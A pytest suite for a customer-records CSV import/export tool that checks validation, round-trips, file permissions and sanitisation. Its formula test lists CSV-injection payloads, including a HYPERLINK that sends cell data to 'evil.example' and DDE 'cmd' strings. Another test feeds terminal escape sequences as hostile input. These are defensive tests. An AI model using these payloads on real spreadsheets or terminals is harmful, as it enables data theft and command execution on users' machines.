"""Customers in bulk: all of a file or nothing, again and again, and out again as they were."""

import csv
import os
import re
import stat
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from google.cloud.firestore import Client

from domain import addresses
from local.ports import free_port
from tests.core import records
from tests.service import Service
from tools import customers, customers_csv, customers_store
from tools.seed import connect

Import = Callable[..., int]


@pytest.fixture
def import_(project: str, tmp_path: Path) -> Import:
    """import_(text, *options): the exit status of the command for a file with this text."""

    def run(text: str, *options: str) -> int:
        file = tmp_path / "customers.csv"
        file.write_text(text, encoding="utf-8")
        return customers.main(["import", str(file), "--project", project, *options])

    return run


def _all(db: Client) -> dict[str, dict[str, Any]]:
    return dict(customers_store.read_all(db))


def test_rows_become_records_with_addresses_in_twilios_spelling(
    import_: Import, db: Client
) -> None:
    text = (
        "customer_id,display_name,addresses,worker,details_title,details_content,do_not_contact,company\n"
        'ada,Ada Byron,"0170 1234567; whatsapp:+49 170 1234567",carol@example.com,Vip,"Line 1\nLine 2",yes,Example\n'
        ",Bobby,Bobby@Example.com,,,,,\n"
    )
    assert import_(text, "--country", "de") == 0
    bobby = addresses.stable_id("bobby@example.com", customers_store.key(db))
    found = _all(db)
    assert set(found) == {"ada", bobby}
    ada = found["ada"]
    assert ada["addresses"] == ["+491701234567", "whatsapp:+491701234567"]
    assert ada["details"] == {"title": "Vip", "content": "Line 1\nLine 2"}
    assert (ada["do_not_contact"], ada["company"], ada["sort_name"]) == (
        True,
        "Example",
        "ada byron",
    )
    assert ada["search"]["01701"] == "carol@example.com/ada byron"
    assert {
        n: v for n, v in found[bobby].items() if n not in ("search", "sort_name")
    } == {
        "display_name": "Bobby",
        "addresses": ["bobby@example.com"],
    }


@pytest.mark.parametrize(
    "row",
    [
        'ada,Ada,+15550000001,"Acme\nbob,Bob,+15550000002,Best\n',
        "ada,Ada,+15550000001\n",
    ],
)
def test_a_quote_without_its_end_or_a_row_cut_short_is_a_mistake(
    import_: Import, db: Client, capsys: pytest.CaptureFixture[str], row: str
) -> None:
    db.document("customers/ada").set({"addresses": ["+15550000001"], "company": "Acme"})
    assert import_(f"customer_id,display_name,addresses,company\n{row}") == 1
    assert "customers.csv:2: " in capsys.readouterr().err
    assert _all(db)["ada"]["company"] == "Acme"


def test_the_trigger_finds_nothing_to_do_and_a_second_run_writes_nothing(
    import_: Import, service: Service, db: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    text = "customer_id,display_name,addresses\nada,Ada,+1 555 000 0001\nbob,Bob,+15550000002\n"
    assert import_(text) == 0
    assert "2 new, 0 changed, 0 unchanged" in capsys.readouterr().out
    written = {s.id: s.update_time for s in db.collection("customers").stream()}
    service.settle()
    assert import_(text) == 0
    assert "0 new, 0 changed, 2 unchanged" in capsys.readouterr().out
    service.settle()
    assert {s.id: s.update_time for s in db.collection("customers").stream()} == written


def test_a_dry_run_writes_nothing(
    import_: Import, db: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    assert import_("addresses\n+15550000001\n", "--dry-run") == 0
    assert (
        "1 new, 0 changed, 0 unchanged; nothing is written" in capsys.readouterr().out
    )
    assert _all(db) == {}


def test_with_one_wrong_line_nothing_is_written_and_each_is_named(
    import_: Import, db: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    records.customer(db, "there", addresses=["+15550000009"])
    text = (
        "customer_id,display_name,addresses,worker,do_not_contact,links\n"
        "good,Good,+15550000001,,,\n"
        "a/b,Slash,+15550000002,,,\n"
        "c,National,0170 1234567,,,\n"
        '"d","Two\nlines",,,,\n'
        "e,Twice,+1 555 000 0001,,,\n"
        "good,Again,+15550000003,,,\n"
        "f,There,+15550000009,,,\n"
        "g,Flag,+15550000004,,perhaps,\n"
        "h,Links,+15550000005,,,{}\n"
        "i,Worker,+15550000006,x/y,,\n"
        "j,Long,+15550000007,,,,more\n"
        ",Nobody,,,,\n"
    )
    assert import_(text) == 1
    said = capsys.readouterr().err
    for line, text in {
        3: "customer_id: a record cannot be called that",
        4: "0170 1234567 is not an international number",
        5: "addresses is empty",
        7: "+15550000001 is also an address in line 2",
        8: "the same customer as in line 2",
        9: "+15550000009 is also an address of the customer there in the database",
        10: "do_not_contact: true or false is wanted",
        11: "links must be a list of maps",
        12: "worker must be a worker's identity",
        13: "7 cells, but 6 columns",
        14: "there is neither a customer_id nor an address",
    }.items():
        assert f"customers.csv:{line}: " in said
        assert text in said.split(f"customers.csv:{line}: ")[1].split("\n")[0]
    assert said.count("customers.csv:") == 11
    assert list(_all(db)) == ["there"]


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", ":1: there is neither a column customer_id nor a column addresses"),
        ("addresses\n", ":1: there is no customer in this file"),
        ("addresses,addresses\n", ":1: the column addresses comes twice"),
        ("addresses,search\n", ":1: the column search is kept by the service"),
        ("addresses,a.b\n", ":1: the column “a.b” is not a name"),
        ("addresses,age (json)\n+15550000001,{\n", ":2: age (json): this is not JSON"),
    ],
)
def test_a_file_that_makes_no_sense_is_refused(
    import_: Import, capsys: pytest.CaptureFixture[str], text: str, said: str
) -> None:
    assert import_(text) == 1
    assert said in capsys.readouterr().err


def test_a_file_that_is_missing_or_not_utf_8_is_refused(
    project: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "latin.csv"
    assert customers.main(["import", str(file), "--project", project]) == 1
    file.write_bytes("addresses,display_name\n+15550000001,J\xf6rg\n".encode("latin-1"))
    assert customers.main(["import", str(file), "--project", project]) == 1
    said = capsys.readouterr().err
    assert "No such file" in said
    assert "UTF-8" in said


def test_semicolons_and_excels_mark_are_understood(import_: Import, db: Client) -> None:
    assert (
        import_(
            "\ufeffcustomer_id;display_name;addresses\nada;Ada, Countess;+15550000001\n"
        )
        == 0
    )
    assert _all(db)["ada"]["display_name"] == "Ada, Countess"


def test_an_empty_cell_empties_a_field_and_a_missing_column_leaves_it_alone(
    import_: Import, db: Client
) -> None:
    before = {
        "addresses": ["+15550000001"],
        "worker": "x@example.com",
        "avatar": "a",
        "first name": "Ada",
    }
    records.customer(db, "ada", details={"title": "T", "more": 1}, **before)
    assert import_("customer_id,worker,details_title,first name\nada,,,Augusta\n") == 0
    after = _all(db)["ada"]
    assert "worker" not in after
    assert after["details"] == {"more": 1}
    assert (after["avatar"], after["first name"], after["addresses"]) == (
        "a",
        "Augusta",
        ["+15550000001"],
    )


def test_an_address_can_move_from_one_customer_to_another_in_one_file(
    import_: Import, db: Client
) -> None:
    records.customer(db, "ada", addresses=["+15550000001"])
    records.customer(db, "bob", addresses=["+15550000002"])
    assert import_("customer_id,addresses\nada,+15550000002\nbob,+15550000001\n") == 0
    assert _all(db)["ada"]["addresses"] == ["+15550000002"]


def test_what_is_wrong_in_the_database_already_does_not_stop_an_import(
    import_: Import, db: Client
) -> None:
    records.customer(db, "ada", addresses=["12345"])
    records.customer(db, "twin", addresses=["12345"])
    records.customer(db, "none", display_name="None")
    assert (
        import_("customer_id,addresses,worker\nada,12345,x@example.com\nnone,,\n") == 0
    )
    assert _all(db)["ada"]["worker"] == "x@example.com"


def test_export_and_import_give_the_same_records(
    import_: Import,
    db: Client,
    tmp_path: Path,
    project: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    records.customer(
        db,
        "ada",
        display_name='Ada "Countess", Byron\nLovelace',
        addresses=["+15550000001", "ada@example.com", "messenger:1;2"],
        worker="carol@example.com",
        links=[
            {"type": "Website", "value": "https://example.com", "display_name": "Ä"}
        ],
        details={"title": "T", "content": "C"},
        do_not_contact=False,
        created_at=datetime(2026, 11, 23, 10, 0, 0, 123456, tzinfo=UTC),
        age=36,
        priority=10,
        tags=["a", "b"],
        company=" blanks ",
    )
    records.customer(
        db,
        "bob",
        display_name="Bob",
        addresses=["+15550000002"],
        age="unknown",
        details={"more": [1]},
    )
    records.customer(
        db, "carl", display_name="true", addresses=["+15550000003"], details={}
    )
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    assert customers.main(["export", str(first), "--project", project]) == 0
    assert import_(first.read_text("utf-8-sig")) == 0
    capsys.readouterr()
    assert import_(first.read_text("utf-8-sig")) == 0
    assert "0 new, 0 changed, 3 unchanged" in capsys.readouterr().out
    before = _all(db)
    other = f"{project}-other"
    assert customers.main(["import", str(first), "--project", other]) == 0
    assert customers.main(["export", str(second), "--project", other]) == 0
    assert second.read_bytes() == first.read_bytes()
    capsys.readouterr()
    assert customers.main(["export", "-", "--project", other]) == 0
    assert capsys.readouterr().out == first.read_text("utf-8-sig")
    monkeypatch.setenv("GOOGLE_CLOUD_PROJECT", other)
    assert dict(customers_store.read_all(connect(other, "(default)"))) == before


def test_a_country_is_two_letters(
    import_: Import, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit, match="2"):
        import_("addresses\n+15550000001\n", "--country", "Germany")
    assert "two letters such as DE" in capsys.readouterr().err


def test_a_firestore_that_is_away_is_told_in_a_sentence(
    import_: Import, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("FIRESTORE_EMULATOR_HOST", f"127.0.0.1:{free_port()}")
    assert import_("addresses\n+15550000001\n") == 1
    assert "Firestore cannot be reached" in capsys.readouterr().err


@pytest.mark.parametrize(
    "header",
    [
        "Customer_ID,Display_Name,Addresses,Worker,Do_not_contact",
        "customer id, Display Name ,ADDRESSES,Worker,Do Not Contact",
        "customerId,displayName,addresses,worker,doNotContact",
        "\ufeffCUSTOMER-ID;display-name;addresses;worker;do-not-contact",
        "\u200bcustomer_id,display\u00a0name,addresses\ufeff,worker,do_not__contact",
        "customer_id,display_name,addresses,worker,do_not_contact,,",
    ],
)
def test_a_column_is_understood_however_it_is_spelled(
    import_: Import, db: Client, header: str
) -> None:
    row = "ada,Ada,+15550000001,carol@example.com,yes".replace(
        ",", ";" if ";" in header else ","
    )
    assert import_(f"{header}\n{row}{',,' if header.endswith(',,') else ''}\n") == 0
    record = {
        name: value
        for name, value in _all(db)["ada"].items()
        if name not in ("search", "sort_name")
    }
    assert record == {
        "display_name": "Ada",
        "addresses": ["+15550000001"],
        "worker": "carol@example.com",
        "do_not_contact": True,
    }


@pytest.mark.parametrize(
    ("column", "meant"),
    [
        ("do_not_contakt", "do_not_contact"),
        ("DoNotContacts", "do_not_contact"),
        ("dont_contact", "do_not_contact"),
        ("Adress", "addresses"),
        ("address", "addresses"),
        ("displayed name", "display_name"),
        ("workers", "worker"),
        ("Link", "links"),
        ("Languages", "language"),
        ("detail title", "details_title"),
        ("name", "display_name"),
        ("Full Name", "display_name"),
        ("Phone", "addresses"),
        ("phone_number", "addresses"),
        ("e-mail", "addresses"),
        ("Email", "addresses"),
        ("mail", "addresses"),
        ("Telephone", "addresses"),
        ("Telefon", "addresses"),
        ("prioritiy", "priority"),
    ],
)
def test_a_column_that_is_nearly_one_is_refused_with_what_was_meant(
    import_: Import,
    db: Client,
    capsys: pytest.CaptureFixture[str],
    column: str,
    meant: str,
) -> None:
    assert import_(f"customer_id,addresses,{column}\nada,+15550000001,x\n") == 1
    assert f"did you mean {meant}" in capsys.readouterr().err
    assert _all(db) == {}


@pytest.mark.parametrize(
    ("header", "said"),
    [
        ("addresses,Worker,worker", "the column worker comes twice"),
        ("addresses,Sort Name", "is kept by the service"),
        ("addresses,PROBLEM", "is kept by the service"),
    ],
)
def test_two_spellings_of_one_column_and_what_the_service_keeps_are_refused(
    import_: Import, capsys: pytest.CaptureFixture[str], header: str, said: str
) -> None:
    assert import_(f"{header}\n+15550000001\n") == 1
    assert said in capsys.readouterr().err


def test_a_cell_without_a_column_is_a_mistake(
    import_: Import, capsys: pytest.CaptureFixture[str]
) -> None:
    assert import_("addresses,\n+15550000001,lost\n") == 1
    assert ":2: a cell stands under no column" in capsys.readouterr().err


def test_columns_that_only_templates_read_are_named(
    import_: Import, capsys: pytest.CaptureFixture[str]
) -> None:
    assert import_("addresses,company,Region\n+15550000001,A,B\n") == 0
    assert "company, Region" in capsys.readouterr().err


def test_a_file_of_another_program_is_asked_about_column_by_column(
    import_: Import, db: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    assert import_("Name,Phone,Email\nAda,+15550000001,ada@example.com\n") == 1
    said = capsys.readouterr().err
    for column, meant in (("Name", "display_name"), ("Phone", "addresses")):
        assert f"the column {column}: did you mean {meant}" in said
    assert _all(db) == {}


@pytest.mark.parametrize(
    ("cell", "priority"), [("10", 10), (" -3 ", -3), ("+7", 7), ("", None)]
)
def test_a_priority_is_imported_and_exported_as_a_number(
    import_: Import, db: Client, tmp_path: Path, cell: str, priority: int | None
) -> None:
    assert import_(f"customer_id,addresses,Priority\nada,+15550000001,{cell}\n") == 0
    record = _all(db)["ada"]
    assert record.get("priority") == priority
    row = customers_csv.cells_of("ada", record)
    assert row.get("priority") == (None if priority is None else str(priority))


@pytest.mark.parametrize("cell", ["high", "1.5", "10 %"])
def test_a_priority_that_is_no_number_is_a_mistake(
    import_: Import, capsys: pytest.CaptureFixture[str], cell: str
) -> None:
    assert import_(f"addresses,priority\n+15550000001,{cell}\n") == 1
    assert f"priority: “{cell}” is not a whole number" in capsys.readouterr().err


FORMULAS = [
    '=HYPERLINK("https://evil.example?x="&A1,"click")',
    "=cmd|'/c calc'!a0",
    "@SUM(1+1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "+",
    "'=1",
    "''=1",
    "'-x",
    "\uff1d1",
    "\tx",
    "\r=1",
    "\n=1",
]
BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"]
HARMLESS = ["'s Gravenhage", "+15550000009", "-5", "-5.25", "Ada", "a=b", "'", "1+1"]


@pytest.mark.parametrize("text", [*FORMULAS, *HARMLESS])
def test_no_text_of_an_export_is_a_formula_and_an_import_changes_nothing(
    import_: Import,
    db: Client,
    project: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    text: str,
) -> None:
    evil = "=cmd|'/c calc'!a0@evil.test"
    name = text.strip().replace("/", "") or "x"
    records.customer(
        db, name, display_name=text, addresses=[evil, "+15550000001"], company=text
    )
    records.customer(
        db,
        "two",
        details={"title": text, "content": text},
        addresses=["+15550000002", f"{evil}x"],
    )
    records.customer(
        db, "three", addresses=["+15550000003"], worker=text, language=text
    )
    before, file = _all(db), tmp_path / "out.csv"
    assert customers.main(["export", str(file), "--project", project]) == 0
    with file.open(encoding="utf-8-sig", newline="") as opened:
        cells = [cell for row in csv.reader(opened) for cell in row]
    assert [
        cell
        for cell in cells
        if cell[:1] in BEGINNINGS and not re.fullmatch(r"[+-]\d+(\.\d+)?", cell)
    ] == []
    assert import_(file.read_text("utf-8-sig")) == 0, capsys.readouterr().err
    kept = ("search", "sort_name")
    for name, record in _all(db).items():
        assert {
            key: value for key, value in record.items() if key not in kept
        } == before[name]
    capsys.readouterr()
    assert import_(file.read_text("utf-8-sig")) == 0
    assert "0 new, 0 changed, 3 unchanged" in capsys.readouterr().out


def test_fields_that_are_called_nearly_as_a_column_come_back_as_they_were(
    import_: Import,
    db: Client,
    project: str,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
) -> None:
    odd = {"address": "12 High St", "workers": "x", "worker_id": "7"}
    records.customer(
        db, "ada", addresses=["+15550000001"], company="x" * 200_000, **odd
    )
    assert import_("customer_id,display_name\nada,Ada\n") == 0
    before, file = _all(db), tmp_path / "out.csv"
    assert customers.main(["export", str(file), "--project", project]) == 0
    capsys.readouterr()
    assert import_(file.read_text("utf-8-sig")) == 0
    assert "0 new, 0 changed, 1 unchanged" in capsys.readouterr().out
    assert _all(db) == before


def test_an_export_is_for_its_owner_alone_whatever_lay_there(
    db: Client, project: str, tmp_path: Path
) -> None:
    records.customer(db, "ada", addresses=["+15550000001"])
    file, part, precious = (
        tmp_path / "out.csv",
        tmp_path / "out.csv.part",
        tmp_path / "precious",
    )
    precious.write_text("mine")
    file.write_text("old")
    file.chmod(0o644)
    part.symlink_to(precious)
    old = os.umask(0o022)
    try:
        assert customers.main(["export", str(file), "--project", project]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert not part.exists()
    assert precious.read_text() == "mine"


def test_what_a_file_holds_never_reaches_the_terminal_as_it_is(
    import_: Import, db: Client, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[bold]"
    for text in (
        f"addresses,{evil}\n+15550000001,x\n",
        f"addresses\n{evil}\n",
        f"customer_id,addresses,worker\n{evil}/,+15550000001,{evil}/\n",
        f"addresses,links\n+15550000001,{evil}\n",
    ):
        assert import_(text) == 1
        said = capsys.readouterr()
        assert not set("\x1b\x07\x9b\u202e") & set(said.err + said.out)
    assert import_(f"addresses\n{evil}\n") == 1
    told = capsys.readouterr().err
    assert "[bold]" in told
    assert "U+001B" in told or "\\x1b[2J" in told
